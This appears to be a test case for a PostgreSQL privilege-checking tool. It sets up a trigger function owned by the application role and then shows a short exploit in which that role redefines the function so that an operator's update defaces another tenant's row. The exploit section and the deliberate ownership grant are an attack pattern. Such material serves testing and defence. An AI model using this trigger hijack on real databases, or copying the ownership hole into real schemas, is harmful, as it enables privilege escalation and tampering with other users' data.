-- The function of a trigger that runs for every writer belongs to the app role, in a schema where it may make functions.
-- object: hooks.touch()
-- object: public.orgs
-- base: projects
--- setup
CREATE SCHEMA hooks;
GRANT USAGE, CREATE ON SCHEMA hooks TO {app};
CREATE FUNCTION hooks.touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;
CREATE TRIGGER touch BEFORE UPDATE ON orgs FOR EACH ROW EXECUTE FUNCTION hooks.touch();
--- leak
RESET ROLE;
ALTER FUNCTION hooks.touch() OWNER TO {app};
--- exploit
CREATE OR REPLACE FUNCTION hooks.touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.name := 'defaced'; RETURN NEW; END $$;
SELECT 1;
--- operator
RESET ROLE;
UPDATE orgs SET plan = 'pro' WHERE id = '{B}';
--- proof
SELECT 1 FROM orgs WHERE id = '{B}' AND name = 'defaced';
